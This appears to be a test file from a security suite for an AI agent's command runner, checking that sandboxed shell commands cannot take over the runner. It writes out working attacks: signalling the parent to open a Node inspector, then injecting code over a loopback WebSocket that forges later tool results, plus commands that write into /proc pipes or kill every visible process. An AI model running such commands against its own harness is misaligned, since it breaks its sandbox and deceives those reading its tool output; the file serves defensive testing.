import { findingOf, type AttackCase } from "../attack-case.ts";
import { readFile, shell, type AttackMesh } from "../attack-mesh.ts";

const GENUINE = "genuine content";
const FORGED = "invented content";

/** Run in the sandbox: looks for an inspector on loopback and has whatever it belongs to replace words in all it sends. */
const FORGE = `
const expression = \`{ const genuine = JSON.stringify;
JSON.stringify = (...given) => genuine(...given)?.replaceAll(${JSON.stringify(GENUINE)}, ${JSON.stringify(FORGED)}); }\`;
const [target] = await (await fetch("http://127.0.0.1:9229/json", { signal: AbortSignal.timeout(1000) })).json();
console.log("inspector reached");
const socket = new WebSocket(target.webSocketDebuggerUrl);
socket.onopen = () => socket.send(JSON.stringify({ id: 1, method: "Runtime.evaluate", params: { expression } }));
socket.onmessage = () => process.exit();
`;
/** A Node that knows web sockets is the runner's own, where a command finds it. */
const RUN_FORGE = "node=/opt/hlvm/bin/node; [ -x $node ] || node=node; $node forge.mjs";

async function problemsAfter(mesh: AttackMesh, attack: readonly string[]): Promise<string[]> {
  const workspace = mesh.workspace({ "genuine.txt": `${GENUINE}\n`, "forge.mjs": FORGE });
  const turns = [
    ...attack.map((command) => [shell(command, { timeout_seconds: 5 })]),
    [readFile("genuine.txt")],
    [shell("cat genuine.txt")],
  ];
  const { calls } = await mesh.ask(workspace, "bypassPermissions", turns);
  const reads = calls.slice(attack.length);
  return [
    ...calls
      .filter(({ errorCode }) => /internal|unavailable/.test(errorCode))
      .map(({ tool, content }) => `${tool} failed: ${content.slice(0, 100)}`),
    ...calls.filter(({ content }) => content.includes("inspector reached")).map(() => "a command reached an inspector"),
    ...reads.filter(({ content }) => content.includes(FORGED)).map(({ tool }) => `the result of ${tool} was forged`),
    ...reads
      .filter(({ content }) => !content.includes(GENUINE) && !content.includes(FORGED))
      .map(({ tool, content }) => `${tool} does not answer any more: ${content.slice(0, 100)}`),
  ];
}

function takeover(name: string, attack: readonly string[]): AttackCase {
  return {
    group: "seen",
    name: `a command takes over the runner: ${name}`,
    run: async (mesh) => findingOf(await problemsAfter(mesh, attack), "later calls answer, and tell what is there"),
  };
}

export const seenRunnerTakeover: readonly AttackCase[] = [
  takeover("SIGUSR1 opens its inspector", ["kill -USR1 $PPID; sleep 0.3", RUN_FORGE]),
  takeover("SIGUSR1 to every process in sight", [
    'for p in /proc/[0-9]*; do p=${p#/proc/}; [ "$p" -gt 1 ] && [ "$p" != $$ ] && kill -USR1 "$p"; done; sleep 0.3',
    RUN_FORGE,
  ]),
  takeover("16 bytes into the pipes of /proc/2/fd", [
    'for f in /proc/2/fd/*; do timeout 1 sh -c "printf AAAAAAAAAAAAAAAA > $f" 2>/dev/null; done; true',
  ]),
  takeover("SIGKILL to every process in sight", ['for p in /proc/[0-9]*; do p=${p#/proc/}; [ "$p" != $$ ] && kill -KILL "$p"; done; true']),
];
